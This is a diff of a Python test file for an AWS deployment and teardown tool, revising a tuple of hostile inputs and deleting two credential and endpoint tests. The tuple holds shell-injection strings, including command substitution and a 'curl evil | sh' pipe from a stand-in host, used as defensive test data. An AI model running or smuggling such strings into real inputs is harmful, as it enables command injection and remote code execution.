@@ -125,7 +125,7 @@ def test_an_orphan_makes_it_end_with_1_and_its_command(small, run):
     assert re.search(r"ECR repository tandem-\S+: ORPHAN; aws ecr delete-repository", done.out)
 
 
-HOSTILE = ("x; curl evil | sh", "$(id)", "`id`", "it's", 'a "b"', "x\ncurl evil", "x\x1b[2J", "x && id #")
+HOSTILE = ("$(id); curl evil | sh", "it's `id`", 'a "b"', "x\ncurl evil", "x\x1b[2J && id #")
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -164,9 +164,7 @@ def test_a_document_has_all_of_it(small, run):
 
 def test_a_refusal_is_a_document_too(small, run):
     one = small().deploy(("Artifacts", "Network"))
-
     document = json.loads(run(one, "--json").out)
-
     assert document["exit_code"] == 2
     assert set(document["error"]) == {"problem", "where", "change"}
 
@@ -180,24 +178,6 @@ def test_another_accounts_credentials_are_refused_before_anything_is_asked(small
     assert "these credentials are of account 999988887777\n" in done.err
     assert f"log in to {ACCOUNT}" in done.err
     assert "Network" in one.stacks()
-
-
-def test_without_credentials_it_says_how_to_log_in(small, run, monkeypatch):
-    one = small()
-    monkeypatch.setattr("botocore.session.Session.get_credentials", lambda _: None)
-
-    done = run(one)
-
-    assert done.code == 3
-    assert "there are no AWS credentials" in done.err
-
-
-def test_an_endpoint_that_nobody_answers_at_is_told(small, run, monkeypatch):
-    monkeypatch.setattr("botocore.retries.standard.ExponentialBackoff.delay_amount", lambda *_: 0.01)
-    done = run(small(), AWS_ENDPOINT_URL="http://127.0.0.1:9", AWS_MAX_ATTEMPTS="1")
-
-    assert done.code == 3
-    assert "GetCallerIdentity reached nobody" in done.err
 
 
 def test_an_interrupt_says_that_the_same_command_goes_on(small, run, monkeypatch):
@@ -228,7 +208,6 @@ def test_an_environment_that_the_rules_refuse_today_may_still_be_taken_down(smal
         document["cluster"]["kubernetes"] = "1.20"
 
     one = small(change=old).deploy(("Artifacts", "Network"))
-
     assert run(one, "--yes-i-mean", one.name).code == 0
 
 
